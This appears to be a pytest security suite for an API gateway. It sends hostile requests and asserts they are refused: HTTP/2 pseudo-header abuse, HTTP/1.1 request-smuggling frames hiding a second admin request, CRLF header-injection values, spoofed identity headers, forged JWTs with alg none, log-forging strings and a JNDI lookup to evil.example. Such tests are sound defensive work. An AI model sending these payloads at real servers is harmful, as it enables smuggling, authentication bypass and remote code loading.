"""Headers that claim an identity, take others away, end a line, or make one request be read as two."""

import json
import ssl

import pytest

from policy.descriptors import IDENTITY_HEADERS, SPOOFABLE_HEADERS, SPOOFABLE_PREFIXES
from tests.support.client import CONTENT, Client
from tests.support.evidence import Evidence
from tests.support.forging import Forge
from tests.support.raw import Door, everything, head, send, send_http2
from tests.support.stack import Stack
from tests.support.tokens import Fresh, Tokens

PATH = "/api/marketing/content"
MARK = "the-attacker"


def pseudo(path: str = PATH, **changes: str) -> list[tuple[str, str]]:
    """What begins a request of HTTP/2 (RFC 9113 §8.3.1)."""
    good = {"method": "GET", "scheme": "https", "authority": "127.0.0.1", "path": path, **changes}
    return [(f":{name}", value) for name, value in good.items()]


TWO_READINGS: dict[str, tuple[list[tuple[str, str]], bytes]] = {
    "A36 two paths": ([*pseudo(), (":path", "/api/platform/admin")], b""),
    "A36 two equal paths": ([*pseudo(), (":path", PATH)], b""),
    "A36 two methods": ([*pseudo(), (":method", "POST")], b""),
    "A36 two authorities": ([*pseudo(), (":authority", "evil.example")], b""),
    "A36 no path": ([line for line in pseudo() if line[0] != ":path"], b""),
    "A36 no method": ([line for line in pseudo() if line[0] != ":method"], b""),
    "A36 an empty path": (pseudo(""), b""),
    "A36 a path without a slash": (pseudo("api/marketing/content"), b""),
    "A36 an unknown pseudo header": ([*pseudo(), (":evil", "x")], b""),
    "A36 a status": ([*pseudo(), (":status", "200")], b""),
    "A36 a pseudo header afterwards": ([*pseudo(), ("x", "y"), (":path", PATH)], b""),
    "A36 a host list": (pseudo(authority="127.0.0.1, evil.example"), b""),
    "A36 a user in the host": (pseudo(authority="root@127.0.0.1"), b""),
    "A36 a blank in the host": (pseudo(authority="127.0.0.1 evil"), b""),
    "A36 a path in the host": (pseudo(authority="127.0.0.1/api/platform"), b""),
    "A36 a length that is too long": ([*pseudo(method="POST"), ("content-length", "9")], b"{}"),
    "A36 a length that is too short": ([*pseudo(method="POST"), ("content-length", "1")], b"{}"),
    "A36 two lengths": ([*pseudo(method="POST"), ("content-length", "2"), ("content-length", "3")], b"{}"),
    "A36 a negative length": ([*pseudo(method="POST"), ("content-length", "-2")], b"{}"),
    "A36 CONNECT": ([(":method", "CONNECT"), (":authority", "platform-gateway:8000")], b""),
    "A36 CONNECT to a websocket": ([*pseudo(method="CONNECT"), (":protocol", "websocket")], b""),
    "A36 a name in capitals": ([*pseudo(), ("X-User-Id", "root")], b""),
    "A36 a line end in a value": ([*pseudo(), ("x", "a\r\nx-waooaw-role: admin")], b""),
    "A36 a line end in a name": ([*pseudo(), ("x: a\r\nx-waooaw-role", "admin")], b""),
    "A36 a NUL in a value": ([*pseudo(), ("x", "a\0b")], b""),
    "A38 connection": ([*pseudo(), ("connection", "x-user-id")], b""),
    "A38 transfer-encoding": ([*pseudo(method="POST"), ("transfer-encoding", "chunked")], b"0\r\n\r\n"),
    "A38 upgrade": ([*pseudo(), ("upgrade", "h2c")], b""),
    "A38 keep-alive": ([*pseudo(), ("keep-alive", "1")], b""),
    "A38 te": ([*pseudo(), ("te", "gzip")], b""),
}  # fmt: skip


@pytest.mark.attack("A36", "A38")
@pytest.mark.parametrize("case", TWO_READINGS)
def test_a_stream_that_could_be_read_in_two_ways_is_refused_or_has_one(
    case: str, evidence: Evidence, public_door: Door, forge: Forge
) -> None:
    lines, body = TWO_READINGS[case]
    token = forge.token(None, role="student")
    with evidence.attempt(token) as attempt:
        # A caller who is refused wherever the request leads: what is not reset is judged as what it says.
        answer = send_http2(public_door, [*lines, ("authorization", f"Bearer {token}")], body)
        attempt.reached_nobody()
        assert answer is None or answer.status_code in {400, 403, 404, 405, 426}, answer


@pytest.mark.attack("A36")
@pytest.mark.parametrize("scheme", ["http", "HTTP", "hTTp", "ftp", "", "https"])
def test_what_came_over_tls_is_https_whatever_it_says(
    scheme: str, evidence: Evidence, public_door: Door, forge: Forge
) -> None:
    with evidence.attempt() as attempt:
        answer = send_http2(public_door, [*pseudo(scheme=scheme), ("authorization", f"Bearer {forge.token()}")])
        if answer is None or answer.status_code == 400:
            attempt.reached_nobody()
            return
        echo = attempt.let_pass(answer, "marketing")
        assert echo["headers"]["x-forwarded-proto"] == "https"


LINES = f"POST {PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
SECOND = b"GET /api/platform/admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
FRAMES: dict[str, bytes] = {
    "A38 length and chunks": b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
    "A38 chunks and length": b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n" + SECOND,
    "A38 two lengths": b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
    "A38 a list of lengths": b"Content-Length: 5, 5\r\n\r\nhello",
    "A38 a length with a sign": b"Content-Length: +5\r\n\r\nhello",
    "A38 a length in hexadecimal": b"Content-Length: 0x5\r\n\r\nhello",
    "A38 a space before the colon": b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "A38 a coding nobody knows": b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "A38 two codings": b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    "A38 a vertical tab": b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "A38 a negative chunk": b"Transfer-Encoding: chunked\r\n\r\n-5\r\nhello\r\n0\r\n\r\n",
    "A38 an endless chunk": b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\nhello\r\n0\r\n\r\n",
    "A38 a chunk that goes on": b"Transfer-Encoding: chunked\r\n\r\n5\r\nhelloXX0\r\n\r\n",
    "A38 NUL in a value": b"X-A: b\x00c\r\n\r\n",
    "A38 an underscore": b"X_User_Id: root\r\n\r\n",
    "A36 two hosts": b"Host: evil.example\r\n\r\n",
    "A36 HTTP/2 in the midst": b"\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
}  # fmt: skip


@pytest.mark.attack("A36", "A38")
@pytest.mark.parametrize("case", FRAMES)
def test_a_message_without_one_clear_end_is_refused_and_hides_no_second(
    case: str, evidence: Evidence, public_door: Door
) -> None:
    with evidence.attempt() as attempt:
        answers = everything(public_door, LINES.encode() + FRAMES[case])
        attempt.reached_nobody()
        statuses = [int(part.split()[0]) for part in answers.split(b"HTTP/1.1 ")[1:]]
        assert statuses
        assert all(400 <= status < 500 or status == 501 for status in statuses), statuses


EARLY = {
    "A36 after CONNECT": b"CONNECT platform-gateway:8000 HTTP/1.1\r\nHost: platform-gateway:8000\r\n\r\n" + SECOND,
    "A36 after an upgrade": f"GET {PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\n".encode()
    + b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    + SECOND,
    "A36 after an upgrade to HTTP/2": f"GET {PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade, ".encode()
    + b"HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n" + SECOND,
}  # fmt: skip


@pytest.mark.attack("A36")
@pytest.mark.parametrize("case", EARLY)
def test_what_is_sent_too_early_reaches_nobody(case: str, evidence: Evidence, public_door: Door) -> None:
    with evidence.attempt() as attempt:
        answers = everything(public_door, EARLY[case])
        attempt.reached_nobody()
        assert not [part for part in answers.split(b"HTTP/1.1 ")[1:] if part.startswith((b"1", b"2"))]


CLAIMS = sorted({*IDENTITY_HEADERS, *SPOOFABLE_HEADERS, *(f"{prefix}x" for prefix in SPOOFABLE_PREFIXES)})


@pytest.mark.attack("A37")
@pytest.mark.requirement("R24")
@pytest.mark.parametrize("part", [0, 1, 2])
def test_no_claim_reaches_a_service(
    part: int, evidence: Evidence, public_door: Door, tokens: Tokens, fresh: Fresh
) -> None:
    some = [name for name in CLAIMS if name not in {"host", "x-request-id"}][part::3]
    lines = [("Authorization", f"Bearer {tokens.of('marketing', fresh)}"), *((name.title(), MARK) for name in some)]
    # Three ways: as they are, in the other case, and named as hop-by-hop.
    named = [("Connection", ", ".join(["close", *some[:5]]))]
    for sent in (lines, [(name.swapcase(), value) for name, value in lines]):
        with evidence.attempt() as attempt:
            echo = attempt.let_pass(send(public_door, head("GET", PATH, sent)), "marketing")
            assert MARK not in json.dumps(echo)
    with evidence.attempt() as attempt:
        attempt.reached_nobody()
        answer = send(public_door, head("GET", PATH, [*named, *lines]))
        assert answer.status_code in {200, 400}
        assert MARK not in answer.text


@pytest.mark.attack("A37")
@pytest.mark.parametrize("path", ["/api/platform/health", "/healthz"])
def test_no_claim_reaches_a_service_on_a_public_route(path: str, evidence: Evidence, public_door: Door) -> None:
    claims = [(name, MARK) for name in CLAIMS[:60] if name not in {"host", "x-request-id"}]
    with evidence.attempt() as attempt:
        answer = send(public_door, head("GET", path, claims))
        assert answer.status_code in {200, 429}
        attempt.judged = True
        assert MARK not in answer.text
        assert all(one["subject"] == "" and one["role"] == "" for one in attempt.decisions() if one["path"] == path)


@pytest.mark.attack("A38")
@pytest.mark.requirement("R24")
@pytest.mark.parametrize(
    "name", ["x-waooaw-subject", "authorization", "x-waooaw-client-address", "x-forwarded-for", "x-request-id"]
)
def test_no_hop_by_hop_list_takes_away_what_a_gateway_says(
    name: str, evidence: Evidence, public_door: Door, tokens: Tokens, fresh: Fresh
) -> None:
    subject = fresh("user")
    token = tokens.of("marketing", fresh, sub=subject)
    request = (
        f"GET {PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close, {name}\r\nAuthorization: Bearer {token}\r\n\r\n"
    )
    with evidence.attempt(token) as attempt:
        answer = send(public_door, request.encode())
        if answer.status_code == 200:
            headers = attempt.let_pass(answer, "marketing")["headers"]
            assert headers["x-waooaw-subject"] == subject
            assert headers["x-waooaw-client-address"] == "127.0.0.1"
            assert headers["x-request-id"]
        else:
            attempt.reached_nobody()
            assert answer.status_code in {400, 401}


@pytest.mark.attack("A39")
@pytest.mark.parametrize("name", ["authorization", "x-api-key", "x-anything", "cookie", "user-agent", "content-type"])
@pytest.mark.parametrize("octets", ["\xff", "\xc0\xaf", "\xed\xa0\x80", "\x80abc", "é"])
def test_octets_that_are_no_utf_8_crash_nothing_and_open_nothing(
    name: str, octets: str, evidence: Evidence, public_door: Door
) -> None:
    for value in (octets, f"Bearer {octets}"):
        with evidence.attempt() as attempt:
            answer = send(public_door, head("POST", PATH, [(name, value), ("Content-Length", "0")]))
            attempt.reached_nobody()
            assert answer.status_code in {400, 401}


@pytest.mark.attack("A39")
@pytest.mark.parametrize("octets", ["\xff", "\xc3(", "!\xff"])
def test_a_good_caller_may_send_odd_octets_and_gains_nothing(
    octets: str, evidence: Evidence, public_door: Door, tokens: Tokens, fresh: Fresh
) -> None:
    subject = fresh("user")
    token = tokens.of("marketing", fresh, sub=subject)
    with evidence.attempt(token) as attempt:
        lines = [("Authorization", f"Bearer {token}"), ("X-Odd", octets), ("X-Waooaw-Role", octets)]
        answer = send(public_door, head("GET", PATH, lines))
        if answer.status_code == 200:
            echo = attempt.let_pass(answer, "marketing")
            assert (echo["headers"]["x-waooaw-subject"], echo["headers"]["x-waooaw-role"]) == (subject, "customer")
        else:
            attempt.refused_by_envoy(answer)


OWN = (
    *("x-envoy-auth-partial-body", "x-envoy-internal", "x-envoy-retry-on", "x-envoy-max-retries"),
    *("x-envoy-upstream-rq-timeout-ms", "x-envoy-expected-rq-timeout-ms", "x-envoy-force-trace", "x-envoy-ip-tags"),
    *("x-envoy-decorator-operation", "x-envoy-original-path", "x-envoy-external-address", "x-envoy-attempt-count"),
    *("x-envoy-hedge-on-per-try-timeout", "x-envoy-upstream-alt-stat-name", "x-envoy-peer-metadata"),
)


@pytest.mark.attack("A40")
@pytest.mark.parametrize("name", OWN)
def test_no_header_of_envoys_own_does_anything(
    name: str, evidence: Evidence, client: Client, tokens: Tokens, fresh: Fresh
) -> None:
    token = tokens.of("marketing", fresh)
    for value in ("true", "0", "1"):
        with evidence.attempt(token) as attempt:
            answer = client.call("POST", PATH, token=token, json=CONTENT, headers={name: value})
            echo = attempt.let_pass(answer, "marketing")
            assert name not in echo["headers"]


FORGED_LINE = '{"gateway":"central","outcome":"allowed","reason":"' + MARK + '"}'
ODD_IDS = {
    "A40 JSON": f'x","outcome":"allowed","reason":"{MARK}',
    "A40 a line of a log": FORGED_LINE,
    "A40 an escape": "\\n" + FORGED_LINE,
    "A40 other line ends": "x\x85\u2028".encode().decode("latin-1") + MARK,
    "A40 a command of a terminal": "\x9b2J" + MARK,
    "A40 64 KB": MARK * 500,
    "A40 a template": "%REQ(authorization)%${jndi:ldap://evil.example}" + MARK,
}


@pytest.mark.attack("A40")
@pytest.mark.requirement("R26")
@pytest.mark.parametrize("case", ODD_IDS)
def test_a_request_id_is_the_gateways_and_log_lines_stay_whole(
    case: str, evidence: Evidence, public_door: Door
) -> None:
    value = ODD_IDS[case]
    with evidence.attempt() as attempt:
        lines = [("X-Request-ID", value), ("User-Agent", value), ("Referer", value), ("Traceparent", value)]
        answer = send(public_door, head("GET", PATH, lines))
        attempt.refused(answer, 401, "token_missing")
        assert MARK not in answer.headers["x-request-id"]
        for line in attempt.said().splitlines():
            assert not line.startswith(FORGED_LINE[:12])
            assert not any(character in line for character in "\x85\u2028\x9b\x1b")
            if MARK in line:
                assert MARK in json.loads(line)["user_agent"]
                assert json.loads(line)["outcome"] == "denied"


@pytest.mark.attack("A41")
@pytest.mark.requirement("R95", "R106")
def test_no_credential_reaches_a_service(evidence: Evidence, client: Client, tokens: Tokens, fresh: Fresh) -> None:
    token = tokens.of("marketing", fresh)
    sent = {
        "cookie": "__Secure-waooaw-refresh=secret-of-a-cookie; theme=dark",
        "proxy-authorization": "Basic c2VjcmV0LW9mLWEtcHJveHk=",
        "signature": "sig1=:c2VjcmV0LW9mLWEtc2lnbmF0dXJl:",
        "x-access-token": token,
        "x-auth-token": token,
    }
    with evidence.attempt(token) as attempt:
        echo = attempt.let_pass(client.call("GET", PATH, token=token, headers=sent), "marketing")
        assert not {"authorization", "x-api-key", *sent} & echo["headers"].keys()
        assert token not in json.dumps(echo)


INJECTED = "x\r\nset-cookie: a=b\r\nx-injected: yes"


@pytest.mark.attack("A42")
@pytest.mark.parametrize("where", ["realm", "agent", "query", "scope", "subject"])
def test_nothing_of_a_request_becomes_a_header_of_its_refusal(
    where: str, evidence: Evidence, client: Client, forge: Forge
) -> None:
    encoded = "x%0d%0aset-cookie:%20a=b%0d%0ax-injected:%20yes"
    requests = {
        "realm": {"token": forge.token({"kid": INJECTED})},
        "agent": {"headers": {"signature-input": f'sig1=();keyid="{encoded}"', "signature": "sig1=:AAAA:"}},
        "query": {"headers": {"origin": encoded}},
        "scope": {"token": forge.token(None, scopes=[INJECTED])},
        "subject": {"token": forge.token(None, sub=INJECTED)},
    }
    with evidence.attempt() as attempt:
        answer = client.call("GET", f"{PATH}?{encoded}", **requests[where])  # type: ignore[arg-type]
        attempt.reached_nobody()
        assert answer.status_code in {401, 403}
        assert not {"set-cookie", "x-injected"} & {name.lower() for name in answer.headers}
        assert "injected" not in answer.text + "".join(answer.headers.values())


@pytest.mark.attack("A43")
@pytest.mark.requirement("R2")
@pytest.mark.parametrize("gateway", ["platform", "marketing", "education", "sales", "agents"])
@pytest.mark.parametrize("shown", ["none", "itself", "public", "control-plane"])
def test_a_domain_gateway_answers_nobody_but_central(
    gateway: str, shown: str, evidence: Evidence, stack: Stack, tokens: Tokens, fresh: Fresh
) -> None:
    name = {"itself": f"{gateway}-mesh"}.get(shown, shown)
    pair = (f"{stack.state_dir}/tls/{name}.pem", f"{stack.state_dir}/tls/{name}.key")
    door = Door(stack.ready.gateways[gateway].https, stack.ca_file, certificate=None if shown == "none" else pair)
    lines = [("Authorization", f"Bearer {tokens.admin(fresh)}"), *((name, "admin") for name in IDENTITY_HEADERS)]
    with evidence.attempt() as attempt:
        with pytest.raises((ssl.SSLError, ConnectionError)):
            send(door, head("GET", f"/api/{gateway}/content", lines))
        attempt.reached_nobody()


@pytest.mark.attack("A43")
@pytest.mark.requirement("R2", "R12")
def test_a_domain_gateway_verifies_again_what_central_hands_on(evidence: Evidence, stack: Stack, forge: Forge) -> None:
    pair = (f"{stack.state_dir}/tls/central-mesh.pem", f"{stack.state_dir}/tls/central-mesh.key")
    door = Door(stack.ready.gateways["marketing"].https, stack.ca_file, certificate=pair)
    claimed = [("x-waooaw-subject", "root"), ("x-waooaw-role", "customer"), ("x-waooaw-tier", "enterprise")]
    for token, code in ((None, "token_missing"), (forge.token({"alg": "none"}), "token_invalid")):
        lines = [*claimed, *([("Authorization", f"Bearer {token}")] if token else [])]
        with evidence.attempt() as attempt:
            answer = send(door, head("GET", PATH, lines))
            attempt.reached_nobody()
            assert (answer.status_code, answer.json()["code"]) == (401, code)
